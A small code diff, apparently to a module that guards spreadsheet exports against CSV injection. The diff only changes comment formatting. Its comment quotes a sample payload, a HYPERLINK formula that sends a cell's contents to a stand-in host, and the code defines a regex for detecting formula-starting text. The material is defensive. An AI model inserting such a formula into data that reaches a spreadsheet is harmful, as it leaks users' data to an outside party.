@@ -1,4 +1,4 @@
-/**
+/*
  * Text that reaches a spreadsheet. A cell that starts with =, +, -, @, a tab
  * or a carriage return is read by Excel, LibreOffice and Google Sheets as a
  * formula (CSV injection: `=HYPERLINK("http://x/?leak="&A1)` in a customer
@@ -7,6 +7,7 @@
  * so (OWASP's rule); numbers are written as numbers, and Parquet and DuckDB
  * keep the values as they are (machines read those).
  */
+
 const FORMULA_START = /^[=+\-@\t\r]/;
 
 /** A text cell a spreadsheet shows as text: `'` prefixed when it starts like a formula. */
